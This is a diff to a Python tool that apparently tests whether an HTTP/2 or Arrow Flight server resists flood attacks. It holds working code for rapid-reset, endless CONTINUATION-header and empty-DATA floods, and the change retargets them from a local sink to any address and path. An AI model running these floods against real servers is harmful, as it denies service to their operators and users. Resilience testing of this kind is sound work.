@@ -2,10 +2,12 @@
 
 import contextlib
 import json
+import os
 import socket
 import struct
 import sys
 import threading
+from collections.abc import Iterator
 
 from wire import varint
 
@@ -30,9 +32,9 @@ def sized(text: bytes) -> bytes:
     return (bytes([len(text)]) if len(text) < 127 else b"\x7f" + varint(len(text) - 127)) + text
 
 
-def call(name: str, **more: str) -> bytes:
-    """The headers of a call."""
-    path = f"/arrow.flight.protocol.FlightService/{name}"
+def call(path: str, **more: str) -> bytes:
+    """The headers of a call: of Flight by its name, or of a page."""
+    path = path if path.startswith("/") else f"/arrow.flight.protocol.FlightService/{path}"
     headers = {
         ":method": "POST",
         ":scheme": "http",
@@ -67,6 +69,12 @@ class Raw:
             return False
         return True
 
+    def frames(self) -> Iterator[tuple[int, int, int, bytes]]:
+        """What the other side says until it ends the connection: kind, flags, stream and payload of each frame."""
+        with contextlib.suppress(ConnectionError), self.socket.makefile("rb") as said:
+            while len(head := said.read(9)) == 9:
+                yield head[3], head[4], int.from_bytes(head[5:]), said.read(int.from_bytes(head[:3]))
+
     def is_closed(self, within: float = 20) -> bool:
         """Whether the other side ends the connection; reads what it says until then."""
         self.socket.settimeout(within)
@@ -80,18 +88,18 @@ class Raw:
         return True
 
 
-def rapid_reset(address: str) -> bool:
+def rapid_reset(address: str, path: str) -> bool:
     with Raw(address) as raw:
         for stream in range(1, 40_000, 2):
             reset = frame(RESET, 0, stream, struct.pack(">I", 8))
-            if not raw.send(frame(HEADERS, END_HEADERS, stream, call("GetFlightInfo")) + reset):
+            if not raw.send(frame(HEADERS, END_HEADERS, stream, call(path)) + reset):
                 return True
         return raw.is_closed()
 
 
-def endless_headers(address: str) -> bool:
+def endless_headers(address: str, path: str) -> bool:
     with Raw(address) as raw:
-        raw.send(frame(HEADERS, 0, 1, call("GetFlightInfo")))
+        raw.send(frame(HEADERS, 0, 1, call(path)))
         more = frame(CONTINUATION, 0, 1, b"".join(literal(f"x-{number}", "v" * 100) for number in range(100)))
         for _ in range(20_000):
             if not raw.send(more):
@@ -99,50 +107,33 @@ def endless_headers(address: str) -> bool:
         return raw.is_closed()
 
 
-def empty_data(address: str) -> bool:
-    """Nothing limits them but that each costs what it costs: the call is an error in the end, or the connection is closed."""
+def empty_data(address: str, path: str) -> bool:
+    """Nothing limits them but that each costs what it costs: the call is answered in the end, or the connection is closed."""
     with Raw(address) as raw:
-        raw.send(frame(HEADERS, END_HEADERS, 1, call("DoPut")))
+        raw.send(frame(HEADERS, END_HEADERS, 1, call(path)))
         nothing = frame(DATA, 0, 1) * 1_000
         for _ in range(200):
             if not raw.send(nothing):
                 return True
         raw.send(frame(DATA, END_STREAM, 1))
-        raw.socket.settimeout(20)
-        return len(raw.socket.recv(1 << 16)) > 0
+        with contextlib.suppress(TimeoutError):
+            return next((kind == HEADERS for kind, _, stream, _ in raw.frames() if stream == 1), True)
+        return False
 
 
 ABUSES = {abuse.__name__: abuse for abuse in (rapid_reset, endless_headers, empty_data)}
 
 
-def sink() -> str:
-    """The address of a port that takes as much as 1 MiB of a connection and closes it: what an abuse costs who sends it."""
-    listener = socket.create_server(("127.0.0.1", 0))
-
-    def take(connection: socket.socket) -> None:
-        with connection, contextlib.suppress(OSError):
-            left = 1 << 20
-            while left > 0 and (taken := len(connection.recv(1 << 16))):
-                left -= taken
-            connection.sendall(frame(GOAWAY, 0, 0, bytes(8)))
-
-    def serve() -> None:
-        while True:
-            threading.Thread(target=take, args=(listener.accept()[0],), daemon=True).start()
-
-    threading.Thread(target=serve, daemon=True).start()
-    return "{}:{}".format(*listener.getsockname())
-
-
-def main(name: str, address: str = "") -> None:
+def main(name: str, address: str, path: str) -> None:
     """Goes on until its input ends, then says how often an abuse came to an end, and whether each did."""
+    # Who sends is at another machine: what it costs there is taken from nobody here.
+    os.nice(19)
     over, ended = threading.Event(), []
-    target = address or sink()
 
     def again() -> None:
         while not over.is_set():
             with contextlib.suppress(ConnectionError):
-                ended.append(ABUSES[name](target))
+                ended.append(ABUSES[name](address, path))
 
     workers = [threading.Thread(target=again) for _ in range(AT_ONCE)]
     for worker in workers:
